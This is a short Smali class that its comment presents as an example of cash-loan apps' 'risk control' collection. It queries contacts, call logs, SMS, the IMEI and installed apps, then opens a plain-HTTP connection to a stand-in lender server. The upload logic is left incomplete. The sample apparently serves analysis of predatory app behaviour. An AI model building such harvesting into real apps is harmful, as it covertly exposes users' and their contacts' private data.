.class public Lcom/example/kuaijie/RiskCollector;
.super Ljava/lang/Object;
.source "RiskCollector.java"

# "Risk control" data collection as seen in cash-loan apps: the whole address book, the call log,
# the SMS inbox, the IMEI and the app list, posted in cleartext to the lender's server.

.field private final context:Landroid/content/Context;

.method public constructor <init>(Landroid/content/Context;)V
    .registers 2
    invoke-direct {p0}, Ljava/lang/Object;-><init>()V
    iput-object p1, p0, Lcom/example/kuaijie/RiskCollector;->context:Landroid/content/Context;
    return-void
.end method

.method private query(Landroid/net/Uri;)Landroid/database/Cursor;
    .registers 8
    iget-object v0, p0, Lcom/example/kuaijie/RiskCollector;->context:Landroid/content/Context;
    invoke-virtual {v0}, Landroid/content/Context;->getContentResolver()Landroid/content/ContentResolver;
    move-result-object v0
    const/4 v2, 0x0
    const/4 v3, 0x0
    const/4 v4, 0x0
    const/4 v5, 0x0
    move-object v1, p1
    invoke-virtual/range {v0 .. v5}, Landroid/content/ContentResolver;->query(Landroid/net/Uri;[Ljava/lang/String;Ljava/lang/String;[Ljava/lang/String;Ljava/lang/String;)Landroid/database/Cursor;
    move-result-object v0
    return-object v0
.end method

.method public collectAndUpload()V
    .registers 4
    sget-object v0, Landroid/provider/ContactsContract$CommonDataKinds$Phone;->CONTENT_URI:Landroid/net/Uri;
    invoke-direct {p0, v0}, Lcom/example/kuaijie/RiskCollector;->query(Landroid/net/Uri;)Landroid/database/Cursor;
    sget-object v0, Landroid/provider/CallLog$Calls;->CONTENT_URI:Landroid/net/Uri;
    invoke-direct {p0, v0}, Lcom/example/kuaijie/RiskCollector;->query(Landroid/net/Uri;)Landroid/database/Cursor;
    const-string v0, "content://sms/inbox"
    invoke-static {v0}, Landroid/net/Uri;->parse(Ljava/lang/String;)Landroid/net/Uri;
    move-result-object v0
    invoke-direct {p0, v0}, Lcom/example/kuaijie/RiskCollector;->query(Landroid/net/Uri;)Landroid/database/Cursor;
    iget-object v0, p0, Lcom/example/kuaijie/RiskCollector;->context:Landroid/content/Context;
    const-string v1, "phone"
    invoke-virtual {v0, v1}, Landroid/content/Context;->getSystemService(Ljava/lang/String;)Ljava/lang/Object;
    move-result-object v1
    check-cast v1, Landroid/telephony/TelephonyManager;
    invoke-virtual {v1}, Landroid/telephony/TelephonyManager;->getDeviceId()Ljava/lang/String;
    invoke-virtual {v0}, Landroid/content/Context;->getPackageManager()Landroid/content/pm/PackageManager;
    move-result-object v1
    const/4 v2, 0x0
    invoke-virtual {v1, v2}, Landroid/content/pm/PackageManager;->getInstalledPackages(I)Ljava/util/List;
    new-instance v0, Ljava/net/URL;
    const-string v1, "http://api.kuaijie-loan.example.cn/risk/upload?type=contacts"
    invoke-direct {v0, v1}, Ljava/net/URL;-><init>(Ljava/lang/String;)V
    invoke-virtual {v0}, Ljava/net/URL;->openConnection()Ljava/net/URLConnection;
    return-void
.end method
